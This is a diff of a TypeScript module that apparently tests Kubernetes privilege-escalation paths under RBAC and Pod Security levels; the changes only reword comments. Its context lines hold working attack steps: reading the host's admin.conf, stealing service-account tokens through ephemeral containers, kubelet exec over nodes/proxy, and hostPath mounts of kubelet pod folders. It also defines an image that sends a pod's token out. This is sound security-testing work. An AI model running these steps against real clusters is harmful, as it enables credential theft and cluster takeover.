@@ -12,15 +12,15 @@ export interface SceneOnNode {
 /** A step of the model that needs a pod or a kubelet. */
 export interface Escalation {
   readonly code: string;
-  /** What tells it from others of the same code. */
+  /** The difference from other escalations with the same code. */
   readonly title?: string;
   /** The Pod Security level. @default 'restricted' */
   readonly level?: string;
   open(namespace: string): readonly Has[];
-  /** Rights with which it is refused. @default the same rights, with another level */
+  /** Rights with which the step is refused. @default the same rights, with another level */
   closed?(namespace: string): readonly Has[];
   readonly closedLevel?: string;
-  /** Whether a pod runs as the service account `boss` before. @default false */
+  /** Whether a pod already runs as the service account `boss`. @default false */
   readonly victim?: true;
   /** Returns the token of `boss`, or the kubeconfig of an administrator. */
   take(scene: SceneOnNode): Promise<string>;
@@ -44,7 +44,7 @@ export const safePod = (name: string, container: object, more: object = {}): obj
     securityContext: {
       runAsNonRoot: true,
       runAsUser: 1000,
-      // The group of containerd's socket. Every level allows it.
+      // The group of containerd's socket, which every level allows.
       runAsGroup: 0,
       seccompProfile: { type: 'RuntimeDefault' },
     },
@@ -55,7 +55,7 @@ export const safePod = (name: string, container: object, more: object = {}): obj
 
 const podsOf = (namespace: string) => `/api/v1/namespaces/${namespace}/pods`;
 const strategic = 'application/strategic-merge-patch+json';
-/** Rights at nodes that lead nowhere. */
+/** Rights on nodes that do not lead to other rights. */
 const aroundProxy = ['get nodes', 'get nodes/metrics', 'get nodes/stats', 'get nodes/pods', 'list nodes/proxy'];
 const tokenIn = (text: string): string => {
   const [token] = /eyJ[\w-]+\.[\w-]+\.[\w-]+/.exec(text) ?? [];
@@ -63,7 +63,7 @@ const tokenIn = (text: string): string => {
   return token;
 };
 
-/** Programs of the node, run with its own libraries, start a container beside those of the kubelet. */
+/** Starts a container next to those of the kubelet, with programs and libraries of the node. */
 const throughContainerd = (name: string) => `busybox cat /host/etc/kubernetes/admin.conf
 busybox mkdir /host/tmp/${name}
 lib=/host/lib/$(busybox uname -m)-linux-gnu
@@ -181,7 +181,7 @@ export const escalations: readonly Escalation[] = [
         image,
         targetContainerName: 'c',
         securityContext: limited,
-        // It has no token of its own, and sees the processes of the other container.
+        // The container has no token of its own, but it sees the processes of the other container.
         command: shell(sends(person.name, `/proc/1/root${tokenFile}`)),
       };
       const path = `${podsOf(namespace)}/victim/ephemeralcontainers`;
@@ -218,7 +218,7 @@ export const escalations: readonly Escalation[] = [
     open: () => [wide('get nodes/proxy')],
     closed: () => [wide(...aroundProxy)],
     async take({ person, namespace }) {
-      // At the kubelet itself: of a request that is upgraded, the API server does not pass the query on.
+      // Sent to the kubelet itself, because the API server does not pass on the query of a request that is upgraded.
       const query = `output=1&command=/bin/busybox&command=cat&command=${tokenFile}`;
       return tokenIn(await person.webSocket(`https://node:10250/exec/${namespace}/victim/c?${query}`));
     },
@@ -234,12 +234,12 @@ export const escalations: readonly Escalation[] = [
       const uid = await machine.kubectl(`--namespace=${namespace} get pod victim -o jsonpath={.metadata.uid}`);
       const folder = `/pods/${uid}/volumes/kubernetes.io~projected`;
       const container = {
-        // The file belongs to the user of the other pod.
+        // The user of the other pod owns the file.
         securityContext: {},
         command: shell(sends(person.name, `${folder}/*/token`)),
         volumeMounts: [{ name: 'pods', mountPath: '/pods' }],
       };
-      // Of the node it mounts the folder of the kubelet only.
+      // It mounts only the kubelet's folder of the node.
       const volumes = [{ name: 'pods', hostPath: { path: '/var/lib/kubelet/pods' } }];
       const more = { serviceAccountName: 'default', securityContext: {}, volumes };
       await person.send('POST', podsOf(namespace), safePod('a', container, more));
@@ -248,6 +248,6 @@ export const escalations: readonly Escalation[] = [
   },
 ];
 
-/** An image of the one who changes the image of a pod: it sends the token of the pod. */
+/** The image to which the actor changes a pod. It sends the token of the pod. */
 export const theirImage = 'node.example.com/theirs:1';
 export const theirProgram = `#!/bin/busybox sh\n${sends('their-image', tokenFile)}\n`;
